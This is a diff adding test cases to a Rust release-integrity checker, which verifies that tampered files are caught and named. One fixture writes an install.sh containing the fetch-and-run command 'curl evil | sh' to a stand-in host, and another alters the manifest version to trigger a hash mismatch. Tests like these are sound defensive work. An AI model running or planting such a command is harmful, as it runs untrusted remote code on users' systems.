@@ -285,6 +285,20 @@ fn every_tampering_is_caught_and_named() {
         ],
     );
     case(
+        "added-file",
+        &|dir| std::fs::write(dir.join("install.sh"), "curl evil | sh\n").unwrap(),
+        &["install.sh: not part of the release"],
+    );
+    case(
+        "manifest",
+        &|dir| {
+            let path = dir.join("manifest.json");
+            let text = std::fs::read_to_string(&path).unwrap();
+            std::fs::write(&path, text.replace("\"0.2.0\"", "\"0.2.1\"")).unwrap();
+        },
+        &["manifest.json: sha256"],
+    );
+    case(
         "placeholder-hef",
         &|dir| {
             std::fs::write(
